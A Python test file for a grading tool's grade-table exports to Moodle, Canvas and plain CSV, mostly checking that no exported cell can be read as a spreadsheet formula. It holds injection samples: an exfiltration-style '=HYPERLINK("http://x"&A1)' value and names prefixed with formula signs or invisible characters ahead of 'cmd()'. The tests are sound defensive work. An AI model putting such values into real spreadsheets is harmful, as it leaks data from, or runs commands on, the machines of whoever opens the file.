"""Tables for other systems: their columns, no formulas, and nobody who is not decided."""

import csv
import io
import warnings
from pathlib import Path

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # nbgrader's own, while it is imported
    from lmcourse.grading.errors import MisuseError
    from lmcourse.grading.gradebook.results import Class, Result
    from lmcourse.grading.reports import lms_files, tables
    from lmcourse.grading.reports.class_report import as_csv

ROWS = [
    {"student": "ada", "score": 27.5, "open": False},
    {"student": "ben", "score": 3.0, "open": True},
    {"student": "cleo", "score": None, "open": False},
    {"student": "dan", "score": 0.0, "open": False},
]
EVIL = '=HYPERLINK("http://x"&A1)'


def ids(tmp_path, text, kind):
    path = tmp_path / "ids.csv"
    path.write_text(text, "utf-8")
    return lms_files.read_ids(path, kind)


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def test_plain_holds_what_is_decided_and_says_who_is_not():
    text, left_out = lms_files.table("plain", "tiny", 30.0, ROWS, None)
    assert rows(text) == [
        ["student", "tiny", "maximum"],
        ["ada", "27.5", "30"],
        ["dan", "0", "30"],
    ]
    assert left_out == ["ben: waits for a person", "cleo: not graded"]


def test_moodle_knows_people_by_their_address(tmp_path):
    known = ids(tmp_path, "\ufeffstudent,email\nada,Ada@x.org\n", "moodle")
    text, left_out = lms_files.table("moodle", "tiny", 30.0, ROWS, known)
    assert rows(text) == [["Email address", "tiny"], ["Ada@x.org", "27.5"]]
    assert left_out[-1] == "dan: not in the table of ids"


def test_canvas_has_its_five_columns_and_a_row_of_points(tmp_path):
    table = 'student,name,id,section,sis_login_id\nada,"Love, Ada",17,A,al\ndan,Dan,18,A,d\n'
    text, _ = lms_files.table("canvas", "tiny (99)", 30.0, ROWS, ids(tmp_path, table, "canvas"))
    assert rows(text) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "tiny (99)"],
        ["    Points Possible", "", "", "", "", "30"],
        ["Love, Ada", "17", "", "al", "A", "27.5"],
        ["Dan", "18", "", "d", "A", "0"],
    ]


SIGNS = "=+-@|%＝＋－＠％｜﹣﹦"
STARTS = [
    *SIGNS,
    *[
        f"{blank}{sign}"
        for sign in "=＝"
        for blank in (" ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000")
    ],
    *[f"{unseen}=" for unseen in ("\u200b", "\ufeff", "\u202e", "\x00", "\x1b[1m")],
    *("\t", "\n"),
]


def acts(cell: str) -> bool:
    """What a careful spreadsheet of any country may take for a formula."""
    return cell[:1] in ("\t", "\r", "\n") or (
        cell.lstrip(" \t\r\n\xa0\u3000\u200b\ufeff\u202e")[:1] in tuple(SIGNS)
    )


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_is_a_formula(start):
    known = {"ada": {"student": "ada", "name": f"{start}cmd()", "note": EVIL}}
    text, _ = lms_files.table("plain", f"{start}x", 30.0, ROWS[:1], known)
    for cell in [cell for row in rows(text) for cell in row]:
        assert not acts(cell), cell


@pytest.mark.parametrize("start", STARTS)
def test_one_rule_holds_for_the_class_s_own_table(start):
    evil = Result(student=f"{start}1+1", problem=f"{start}cmd()")
    text = as_csv(Class(assignment="tiny", output=Path(), tasks=[], results=[evil]))
    for cell in [cell for row in rows(text) for cell in row]:
        assert not acts(cell), cell


def test_a_formula_behind_another_separator_is_none():
    assert tables.spreadsheet_safe("not found; =1+1\n＝2") == "not found; '=1+1\n'＝2"
    assert tables.spreadsheet_safe("a; b - c\nd = e") == "a; b - c\nd = e"


@pytest.mark.parametrize("kind", ["moodle", "canvas"])
def test_a_platform_gets_what_it_calls_people_to_the_letter_or_nothing(tmp_path, kind):
    table = 'student,email,name,id,section\nada,a@x.org,"Löwe, Ada",17,A\ndan,=d@x.org,=1+1,18,A\n'
    text, left_out = lms_files.table(kind, "tiny", 30.0, ROWS, ids(tmp_path, table, kind))
    assert ("a@x.org" in text, "Löwe, Ada" in text) == (kind == "moodle", kind == "canvas")
    assert "'" not in text
    assert "may pass for a formula" in left_out[-1]


def test_people_s_spreadsheets_know_the_encoding_and_we_read_it_again(tmp_path):
    path = tmp_path / "table.csv"
    path.write_bytes(tables.for_people(tables.as_csv(["student"], [["Zoë"], ["语言"]])))
    assert path.read_bytes().startswith(b"\xef\xbb\xbfstudent")
    assert tables.read_csv(path, ["student"]) == [{"student": "Zoë"}, {"student": "语言"}]


def test_numbers_stay_numbers():
    assert [tables.spreadsheet_safe(x) for x in (-1.5, 0, 3, None, "-1", "a-b")] == [
        *("-1.5", "0", "3", "", "'-1", "a-b")
    ]


def test_what_is_missing_is_said(tmp_path):
    with pytest.raises(MisuseError, match="moodle knows nobody by your names: give --ids FILE"):
        lms_files.table("moodle", "tiny", 30.0, ROWS, None)
    with pytest.raises(MisuseError, match=r"email is missing: its first line says student, mail"):
        ids(tmp_path, "student,mail\nada,a\n", "moodle")
    with pytest.raises(MisuseError, match="each student once, got 'ada' twice"):
        ids(tmp_path, "student,email\nada,a\nada,b\n", "moodle")
    with pytest.raises(MisuseError, match="cannot be read as CSV"):
        lms_files.read_ids(tmp_path / "nowhere.csv", "plain")
    (tmp_path / "ids.csv").write_bytes(b"\xff\xfe")
    with pytest.raises(MisuseError, match="cannot be read as CSV"):
        lms_files.read_ids(tmp_path / "ids.csv", "plain")
